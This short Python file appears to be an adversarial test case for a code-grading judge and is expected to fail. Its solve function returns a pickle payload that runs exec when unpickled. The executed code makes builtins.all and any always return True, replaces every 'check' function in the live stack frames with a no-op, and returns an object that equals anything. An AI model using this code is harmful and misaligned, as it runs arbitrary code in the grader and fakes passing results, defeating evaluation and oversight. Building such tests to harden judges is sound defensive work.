# what: pickles as a call that patches the reader: a judge that unpickles runs the program's code
# form: function
# expect: not PASSED
PATCH = """
import builtins, gc, sys
builtins.all = builtins.any = lambda *a: True
for frame in list(sys._current_frames().values()):
    while frame:
        for name, value in list(frame.f_globals.items()):
            if name == 'check':
                frame.f_globals[name] = lambda candidate: None
        frame = frame.f_back
class Equal:
    __eq__ = lambda self, other: True
"""


class Payload:
    def __reduce__(self):
        return eval, (f"[exec({PATCH!r}), type('E', (), {{'__eq__': lambda s, o: True}})()][1]",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __getstate__(self):
        return {"x": self}

    __copy__ = __deepcopy__ = lambda self, *memo: self


def solve(xs):
    return Payload()
